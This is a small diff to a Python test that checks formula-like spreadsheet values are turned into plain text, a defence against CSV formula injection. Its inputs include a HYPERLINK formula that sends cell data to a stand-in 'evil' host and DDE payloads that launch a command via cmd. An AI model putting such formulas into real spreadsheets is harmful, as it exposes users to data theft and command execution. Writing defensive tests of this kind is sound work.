@@ -20,7 +20,7 @@ EVIL = '=HYPERLINK("http://evil/?"&A1,"click")'
     "text",
     [
         *(EVIL, "+1-1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
-        *("\tx", "\rx", "\nx", "\0=1", " =1+1", "\u00a0=1", "\n\n@x", "-5", "＝1+1", "＠x"),
+        *("\tx", "\rx", "\nx", "\0=1", " =1+1", "\u00a0=1", "\n\n@x", "-5", "\uff1d1+1", "\uff20x"),
     ],
 )
 def test_what_could_be_a_formula_becomes_text(text: str) -> None:
